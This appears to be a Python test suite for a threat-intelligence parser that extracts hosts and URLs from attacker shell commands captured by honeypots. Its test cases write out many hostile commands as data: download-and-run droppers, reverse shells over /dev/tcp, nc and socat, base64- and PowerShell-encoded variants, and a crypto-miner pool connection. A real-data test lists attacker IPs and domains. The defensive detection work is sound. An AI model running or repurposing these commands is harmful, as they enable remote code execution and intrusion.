import gzip
import json
from base64 import b64encode
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from threatcloud.domain.commands import MAX_COMMAND_CHARS, MAX_OBSERVABLES, observables
from threatcloud.domain.indicator import IndicatorType, canonical

LOGS = Path(__file__).parents[2].parent / "shared" / "data" / "logs"
COWRIE_LOGS = ("cowrie_2017", "cowrie_2018", "cowrie_2026_raw", "dshield_cowrie_attacks")


def values(command: str) -> list[str]:
    return [indicator.value for indicator in observables(command)]


def base64(text: str, encoding: str = "utf-8") -> str:
    return b64encode(text.encode(encoding)).decode()


URL_AND_HOST = ["http://8.8.4.4/a", "8.8.4.4"]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("wget http://8.8.4.4/a", URL_AND_HOST),
        ("cd /tmp||cd /run;wget http://8.8.4.4/a&&sh a|cat", URL_AND_HOST),
        ("wget http://8.8.4.4/a -O /tmp/x.com; chmod 777 x.com", URL_AND_HOST),
        ("curl -s 'http://8.8.4.4/a' | sh", URL_AND_HOST),
        ("x=`curl http://8.8.4.4/a`", URL_AND_HOST),
        ("bash <(curl -s http://8.8.4.4/a)", URL_AND_HOST),
        ('sh -c "$(curl -fsSL http://8.8.4.4/a)"', URL_AND_HOST),
        ("wget${IFS}http://8.8.4.4/a", URL_AND_HOST),
        ("wget$IFS$9http://8.8.4.4/a", URL_AND_HOST),
        ("w\\get ht''tp://8.8.4.4/a", URL_AND_HOST),
        ("wget \\\n http://8.8.4.4/a", URL_AND_HOST),
        ("echo 'unclosed; wget http://8.8.4.4/a", URL_AND_HOST),
        ("python -c 'import urllib;urllib.urlopen(\"http://8.8.4.4/a\").read()'", URL_AND_HOST),
        ("wget http://8.8.4.4/a; curl -O http://8.8.4.4/a", URL_AND_HOST),
        ("curl -A 'Mozilla/5.0 (+http://bot.com/x)' -e http://ref.com/ http://8.8.4.4/a", URL_AND_HOST),
        ("wget --user-agent 'http://bot.com/x' --referer=x http://8.8.4.4/a", URL_AND_HOST),
        ('wget "http://bad.com/a?b=1&c=2;d"', ["http://bad.com/a?b=1&c=2;d", "bad.com"]),
        ("curl --url=https://Bad.COM:443/a#x", ["https://bad.com/a", "bad.com"]),
        ("./xmrig -o stratum+tcp://pool.bad.com:3333", ["stratum+tcp://pool.bad.com:3333/", "pool.bad.com"]),
        ("wget http://[2a00:1450::1]/a", ["http://[2a00:1450::1]/a", "2a00:1450::1"]),
        ("wget http://134743044/a", URL_AND_HOST),
    ],
)
def test_urls_and_their_hosts(command: str, expected: list[str]) -> None:
    assert values(command) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("wget 8.8.4.4/a", URL_AND_HOST),
        ("/bin/busybox wget -q -O x.com 8.8.4.4/a", URL_AND_HOST),
        ("FOO=1 sudo -E timeout 10 curl -O 8.8.4.4/a 2>/dev/null", URL_AND_HOST),
        ("curl -qo x.com 8.8.4.4:81", ["http://8.8.4.4:81/", "8.8.4.4"]),
        ("wget bad.com/bins.sh bad.com/a.arm7", ["http://bad.com/bins.sh", "bad.com", "http://bad.com/a.arm7"]),
        ("curl 8.8.4.4", ["8.8.4.4"]),
        ("curl bad.com > out.com", ["bad.com"]),
        ("wget bins.sh index.html mirai.arm7 x86_64 a.tar.gz", []),
    ],
)
def test_web_addresses_without_a_scheme(command: str, expected: list[str]) -> None:
    assert values(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "tftp -g -r file.com 8.8.4.4",
        "tftp -gr file.com -l x.net 8.8.4.4",
        "tftp -g 8.8.4.4 -r file.com",
        "tftp 8.8.4.4 -c get file.com",
        "ftpget -v -u anonymous -p a.com -P 21 8.8.4.4 local.com remote.com",
        "ftpget 8.8.4.4 local.com remote.com",
        "nc 8.8.4.4 4444",
        "ncat -w 5 8.8.4.4 4444 -e /bin/sh",
        "telnet 8.8.4.4",
        "cat </dev/tcp/8.8.4.4/99",
        "bash -i >& /dev/tcp/8.8.4.4/4444 0>&1",
        "exec 5<>/dev/tcp/8.8.4.4/4444",
        "socat exec:sh tcp:8.8.4.4:4444",
        "scp -P 22 a.com root@8.8.4.4:/tmp/b.com",
        "rsync -avz 8.8.4.4:/x .",
        "ssh -p 22 -i key.com root@8.8.4.4 uname -a",
        "ssh 8.8.4.4",
        "sshpass -p a.com ssh root@8.8.4.4",
        "ls | xargs nc 8.8.4.4 1",
        "if nc 8.8.4.4 1; then echo x.com; fi",
        "python -c 'import socket;s=socket.socket();s.connect((\"8.8.4.4\",4444))'",
        "php -r '$s=fsockopen(\"8.8.4.4\", 4444);'",
        "echo -e '\\x6e\\x63 8.8.4.4 1' | sh",
        'printf "\\\\156\\\\143 8.8.4.4 1"',
        "$'\\x6e\\x63' 8.8.4.4 1;nc 8.8.4.4 1",
        f"echo {base64('nc 8.8.4.4 4444')} | base64 -d | sh",
        f"echo {base64('nc 8.8.4.4 44444').rstrip('=')} | base64 -d | sh",
        f"base64 -d <<< {base64('nc 8.8.4.4 4444')} | sh",
        f'sh -c "echo {base64("nc 8.8.4.4 4444")}|base64 --decode|bash"',
        f"python -c \"exec(__import__('base64').b64decode('{base64('nc 8.8.4.4 4444')}'))\"",
        f"X={base64('nc 8.8.4.4 4444')}; echo $X | openssl base64 -d | sh",
        f"echo {base64('echo ' + base64('nc 8.8.4.4 4444') + ' | base64 -d | sh')} | base64 -d | sh",
        f"powershell -enc {base64('nc 8.8.4.4 4444', 'utf-16-le')}",
        "wget http://8.8.4.4/$(uname -m)",
        "wget http://8.8.4.4/bins/${arch}",
        "wget http://8.8.4.4/{a,b}",
    ],
)
def test_a_host_alone(command: str) -> None:
    assert values(command) == ["8.8.4.4"]


@pytest.mark.parametrize(
    "command",
    [
        "nc c2.bad.com 4444",
        "ssh -v C2.bad.com",
        "scp x root@c2.bad.com:/",
        "tftp -g -r x c2.bad.com",
        "ssh a@c2.bad.com",
    ],
)
def test_a_host_by_name(command: str) -> None:
    assert [tuple(indicator) for indicator in observables(command)] == [(IndicatorType.DOMAIN, "c2.bad.com")]


def test_addresses_of_both_versions() -> None:
    assert values("nc 2a00:1450::1 80; ssh root@2a00:1450::2; telnet [2a00:1450::3]") == [
        "2a00:1450::1",
        "2a00:1450::2",
        "2a00:1450::3",
    ]
    assert values("nc 8.8.0.0 80") == ["8.8.0.0/32"]


@pytest.mark.parametrize(
    "command",
    [
        "",
        "uname -a; cat /proc/cpuinfo | grep name",
        "chmod 777 bins.sh; sh bins.sh; ./mirai.arm7 evil.com",
        "echo bad.com 8.8.4.4",
        "apt-get install wget nc 1.2.3.4",
        "rm -rf wget bad.com",
        "pip install foo==1.2.3.4",
        "nc -lvp 4444",
        "nc 1.2 4444",
        "wget http://127.0.0.1/a; curl 10.0.0.1/x; tftp -g -r f 192.168.1.100",
        "wget http://localhost/a; nc printer.local 1; wget http://2130706433/",
        "wget http://185.112.x.x/a",
        "wget http://$HOST/a; curl $URL; nc $IP 1",
        "scp -t /tmp/BUwTrLEj; scp a.com /tmp/b.com; scp C:/x y",
        "wget -O bad.com; curl --output bad.com",
        "nc --",
        "wget http://",
        "echo QUJDREVGR0hJSktMTU5PUFFSU1RVVg | base64 -d",
        f"echo {base64('nc 8.8.4.4 4444')}",
    ],
)
def test_what_names_nothing(command: str) -> None:
    assert values(command) == []


def test_order_of_appearance_each_once() -> None:
    assert values("nc 8.8.4.4 1; wget http://bad.com/a http://8.8.4.4/a; nc bad.com 2; curl 1.1.1.1") == [
        "8.8.4.4",
        "http://bad.com/a",
        "bad.com",
        "http://8.8.4.4/a",
        "1.1.1.1",
    ]


def test_bounds() -> None:
    many = "wget " + " ".join(f"http://bad.com/{number}" for number in range(2 * MAX_OBSERVABLES))
    assert len(observables(many)) == MAX_OBSERVABLES
    assert observables(" " * MAX_COMMAND_CHARS + "nc 8.8.4.4 1") == ()
    nested = "nc 8.8.4.4 1"
    for _ in range(20):
        nested = f"echo {base64(nested)} | base64 -d | sh"
    assert observables(nested) == ()


@pytest.mark.parametrize(
    "part",
    [
        *("'", '"', "'\"", "(", "\\", "\\x41", "\\\\156 ", "wget ", "wget -", 'sh -c "', "http://", "http://a ", "a."),
        *("${IFS", "/dev/tcp/", "tcp:a", "base64 QUJDQUJDQUJDQUJDQUJD ", "QUJD", "1.2.3.4,", "sudo ", "http://é"),
        *("nc a@", "A=", "http://10.0.0.1/ ", "/dev/tcp/a/", "&", ">", "-e QUJDREVGR0hJSktMTU5P "),
    ],
)
def test_a_long_command_of_one_part_ends(part: str) -> None:
    assert observables(f"wget base64 connect {part * (60_000 // len(part))}") == ()


PARTS = st.sampled_from(
    [
        *("wget", "curl", "nc", "scp", "tftp", "-g", "-O", "--", "http://", "bad.com", "8.8.4.4", "/", ":", "@", "'"),
        *('"', "\\x", "\\", "`", "$(", ")", ";", "&", "|", "<", ">", " ", "\n", "base64", "QUJDREVGR0hJSktMTU5P", "="),
        *("[", "]", "é", "\ud800", "/dev/tcp/", "connect", ",", "${IFS}", "\x00", "%41", "0x7f.1", "2a00::1"),
    ]
)


@given(st.text() | st.lists(PARTS, max_size=40).map("".join))
def test_any_text_gives_canonical_indicators_each_once(command: str) -> None:
    found = observables(command)
    assert len(found) == len(set(found))
    for kind, value in found:
        assert canonical(kind, value).value == value


@given(st.lists(PARTS, max_size=20).map("".join))
def test_a_command_before_it_hides_nothing_and_is_found_first(command: str) -> None:
    assert values(f"nc 1.1.1.1 1\n{command}")[0] == "1.1.1.1"
    assert set(observables(f"nc 1.1.1.1 1\n{command}")) >= set(observables(command))


@given(st.ip_addresses(v=4), st.integers(1, 65535))
def test_a_url_never_comes_without_its_host(address: object, port: int) -> None:
    found = observables(f"wget http://{address}:{port}/x")
    assert [indicator.type for indicator in found] in ([], [IndicatorType.URL, IndicatorType.IP])


def logged_commands() -> dict[str, None]:
    commands: dict[str, None] = {}
    for name in COWRIE_LOGS:
        path = LOGS / f"{name}.jsonl.gz"
        if not path.exists():
            pytest.skip(f"the public threat data is not there: {path.name}")
        with gzip.open(path, "rt") as lines:
            for line in lines:
                if '"cowrie.command.input"' in line:
                    commands[json.loads(line)["input"]] = None
    return commands


@pytest.mark.real_data
def test_real_sessions() -> None:
    found = {command: values(command) for command in logged_commands()}
    naming = {command: names for command, names in found.items() if names}
    assert (len(found), len(naming)) == (324, 35)
    # Read by eye: of the 54 that look like it, 19 name nothing public (private, redacted, escapes without a host).
    hosts = {name for names in naming.values() for name in names if "/" not in name}
    assert hosts == {
        *("89.38.146.89", "27.148.158.148", "43.251.117.251", "111.73.46.18", "115.239.248.235", "101.254.149.145"),
        *("96.44.186.212", "104.223.213.141", "54.37.72.170", "103.238.225.44", "23.249.162.123", "60.250.99.131"),
        *("94.156.68.152", "213.255.246.81", "87.242.89.170", "mdb7.cn", "evil.com", "attacker-server.com"),
        *("pastebin.com", "exfil-server.com", "botnet-c2.net", "malware-domain.com", "www.searchvity.com"),
    }
    dropper = next(command for command in found if "beetles.sh" in command)
    assert found[dropper] == ["http://89.38.146.89/beetles.sh", "89.38.146.89"]
